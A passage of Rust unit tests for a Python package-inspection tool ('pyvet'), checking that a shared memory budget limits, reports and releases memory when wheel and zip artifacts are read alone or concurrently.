    let (outcome, code_findings) = reader.join().unwrap().unwrap();
    assert!(
        budget_findings(&outcome.contents.findings).is_empty(),
        "{:#?}",
        outcome.contents.findings
    );
    assert!(budget_findings(&code_findings).is_empty());
    assert!(outcome
        .contents
        .entries
        .iter()
        .filter(|e| e.path.ends_with(".py"))
        .all(|e| e.data.len() == code.len()));
    drop(outcome);
    assert_eq!(budget.held(), 0, "everything is given back");
    assert_eq!(budget.waiting(), 0);
}

#[test]
fn memory_budget_reports_an_artifact_that_alone_exceeds_it() {
    use pyvet::inspect::{read_and_inspect, InspectOptions};
    let (_, bytes, budget, opts) = budgeted_wheel(3 << 19);
    let (outcome, _) = read_and_inspect(
        "x-1.0-py3-none-any.whl",
        &bytes,
        &opts,
        &InspectOptions::default(),
    )
    .unwrap();
    let found = budget_findings(&outcome.contents.findings);
    assert_eq!(found.len(), 1, "{:#?}", outcome.contents.findings);
    assert_eq!(found[0].severity, Severity::High);
    assert!(found[0].message.contains("alone"), "{}", found[0].message);
    assert_eq!(budget.contended_attempts(), 0, "nothing else was in flight");
    drop(outcome);
    assert_eq!(budget.held(), 0);
}

#[test]
fn memory_budget_many_reads_at_once_all_finish_and_none_is_reported() {
    use pyvet::archive::MemoryBudget;
    use pyvet::inspect::{read_and_inspect, InspectOptions};
    use std::sync::{Arc, Barrier};
    let code = plausible_code();
    let bytes = Arc::new(zip(&[
        ZEntry::new("pkg/a.py", &code),
        ZEntry::new("pkg/b.py", &code),
    ]));
    // Six artifacts of ~1.8 MB started together against 3 MiB: whatever the schedule, each
    // ends up read whole (alone if it must), and nobody waits forever.
    let budget = Arc::new(MemoryBudget::new(3 << 20));
    let opts = ReadOptions {
        memory: Some(Arc::clone(&budget)),
        ..ReadOptions::default()
    };
    let start = Arc::new(Barrier::new(6));
    let readers: Vec<_> = (0..6)
        .map(|i| {
            let (bytes, opts, start) = (Arc::clone(&bytes), opts.clone(), Arc::clone(&start));
            std::thread::spawn(move || {
                start.wait();
                let name = format!("p{i}-1.0-py3-none-any.whl");
                let (outcome, _) =
                    read_and_inspect(&name, &bytes, &opts, &InspectOptions::default()).unwrap();
                outcome.contents.findings
            })
        })
        .collect();
    for r in readers {
        let findings = r.join().unwrap();
        assert!(budget_findings(&findings).is_empty(), "{findings:#?}");
    }
    assert_eq!(budget.held(), 0);
    assert_eq!(budget.waiting(), 0);
}

#[test]
fn memory_budget_bounds_what_is_held_across_reads() {
    use pyvet::archive::MemoryBudget;
    use std::sync::Arc;
    let code = plausible_code();
    assert!(code.len() > 900_000);
    let bytes = zip(&[
        ZEntry::new("pkg/a.py", &code),
        ZEntry::new("pkg/b.py", &code),
    ]);
    let budget = Arc::new(MemoryBudget::new(5 << 20));
    let opts = ReadOptions {
        memory: Some(Arc::clone(&budget)),
        ..ReadOptions::default()
    };
    let first = read_artifact_with("x.zip", &bytes, &opts).unwrap();
    assert!(
        first.contents.findings.is_empty(),
        "{:#?}",
        first.contents.findings
    );
    let held = budget.held();
    assert!(
        held >= 2 * code.len() as u64 && held <= budget.cap(),
        "{held}"
    );
    // While the first read's files are held, a second direct read (these do not wait: see
    // `MemoryBudget`) cannot hold its own: reported, saying why, and only a prefix kept.
    let second = read_artifact_with("y.zip", &bytes, &opts).unwrap();
    let f = second
        .contents
        .findings
        .iter()
        .find(|f| f.rule == "archive-bomb")
        .unwrap_or_else(|| panic!("{:#?}", second.contents.findings));
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("memory budget"));
    assert!(f.message.contains("other artifacts"), "{}", f.message);
    assert!(second
        .contents
        .entries
        .iter()
        .any(|e| e.data.len() < code.len()));
    assert!(budget.held() <= budget.cap());
    drop((first, second));
    assert_eq!(budget.held(), 0, "everything is given back");
    let third = read_artifact_with("z.zip", &bytes, &opts).unwrap();
    assert!(
        third.contents.findings.is_empty(),
        "{:#?}",
        third.contents.findings
    );
}
